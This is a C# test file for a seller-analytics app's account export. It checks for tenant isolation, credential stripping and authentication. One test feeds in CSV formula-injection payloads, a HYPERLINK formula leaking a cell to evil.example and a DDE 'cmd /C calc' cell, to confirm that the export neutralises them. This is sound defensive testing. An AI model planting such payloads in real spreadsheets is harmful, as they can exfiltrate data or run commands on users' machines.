using System.IO.Compression;
using System.Net;
using Sellmetrics.Testing;
using Sellmetrics.Web.Tests.Infrastructure;
using Sellmetrics.Web.Tests.Sync;

namespace Sellmetrics.Web.Tests.Account;

public sealed class AccountExportTests(TestPostgres postgres, SharedApp shared) : IClassFixture<SharedApp>
{
    [Fact]
    public async Task ASellerDownloadsAllTheirDataAsOneZipWithoutCredentialsOrAnotherTenantsRows()
    {
        await using var app = await SyncApp.StartAsync(postgres, historyDays: 5);
        var seller = await Seller.SignUpAsync(app, "Exporting");
        var other = await Seller.SignUpAsync(app, "Neighbour");
        var credentials = await SyncApp.CreateSandboxSellerAsync(app, 8118);
        await SyncApp.ConnectAmazonAsync(seller, credentials);
        await SyncApp.WaitForImportAsync(seller);
        await seller.AddRecurringCostAsync("Prep centre", "Logistics", 120m);

        var files = await ExportAsync(seller);
        var neighbours = await ExportAsync(other);

        Assert.Contains("account.json", files.Keys);
        Assert.Contains(seller.Email, files["account.json"]);
        Assert.True(files["orders.csv"].Split('\n', StringSplitOptions.RemoveEmptyEntries).Length > 1, "orders.csv has no rows");
        Assert.Contains("Prep centre", files["recurring_costs.csv"]);
        Assert.Contains("account.exported", files["audit_log.csv"]);
        Assert.DoesNotContain("sealed_credentials", files["marketplace_connections.csv"]);
        var secrets = new[] { "lwaClientSecret", "refreshToken" }.Select(name => credentials.GetProperty(name).GetString()!);
        Assert.All(files.Values, text => Assert.All(secrets, secret => Assert.DoesNotContain(secret, text)));
        Assert.All(files.Values, text => Assert.DoesNotContain("gAAAAA", text));
        Assert.Single(neighbours["orders.csv"].Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.DoesNotContain(seller.Email, string.Concat(neighbours.Values));
    }

    [Fact]
    public async Task ExportedCellsThatASpreadsheetWouldRunAsFormulasAreNeutralisedAndNumbersStayNumbers()
    {
        var app = shared.App;
        var seller = await Seller.SignUpAsync(app, "Injected");
        const string hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Refund\")";
        var csv = $"sku,unitCost,currency,effectiveFrom\n\"{hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal)}\",12.5,USD,2026-01-01\n" +
            "@SUM(A1:A9),1,USD,2026-01-01\n+cmd|' /C calc'!A0,2,USD,2026-01-01\n-42,3.75,USD,2026-01-01\n";
        await AppClient.EnsureOkAsync(await seller.Browser.SendAsync(new HttpRequestMessage(HttpMethod.Post, "/api/products/cogs")
        {
            Content = new StringContent(csv, System.Text.Encoding.UTF8, "text/csv"),
        }));

        var rows = Cells((await ExportAsync(seller))["unit_costs.csv"]);

        var header = rows[0];
        var costs = rows.Skip(1).ToDictionary(row => row[header.IndexOf("sku")], row => row[header.IndexOf("unit_cost")]);
        Assert.Equal(["'+cmd|' /C calc'!A0", "'" + hyperlink, "'@SUM(A1:A9)", "-42"], costs.Keys.Order(StringComparer.Ordinal));
        Assert.Equal("12.5000", costs["'" + hyperlink]);
        Assert.Equal("3.7500", costs["-42"]);
    }

    [Fact]
    public async Task WithoutASessionThereIsNoExport()
    {
        var app = shared.App;
        using var anonymous = app.CreateClient();

        Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/api/account/export")).StatusCode);
    }

    private static async Task<Dictionary<string, string>> ExportAsync(Seller seller)
    {
        var response = await AppClient.EnsureOkAsync(await seller.Browser.GetAsync("/api/account/export"));
        Assert.Equal("application/zip", response.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("attachment;", response.Content.Headers.ContentDisposition?.ToString() ?? response.Headers.GetValues("Content-Disposition").Single());
        await using var zip = new ZipArchive(await response.Content.ReadAsStreamAsync(), ZipArchiveMode.Read);
        var files = new Dictionary<string, string>();
        foreach (var entry in zip.Entries)
        {
            using var reader = new StreamReader(entry.Open());
            files[entry.FullName] = await reader.ReadToEndAsync();
        }

        return files;
    }

    private static List<List<string>> Cells(string csv)
    {
        using var parser = new Microsoft.VisualBasic.FileIO.TextFieldParser(new StringReader(csv)) { HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
        parser.SetDelimiters(",");
        var rows = new List<List<string>>();
        while (!parser.EndOfData)
        {
            rows.Add([.. parser.ReadFields()!]);
        }

        return rows;
    }
}
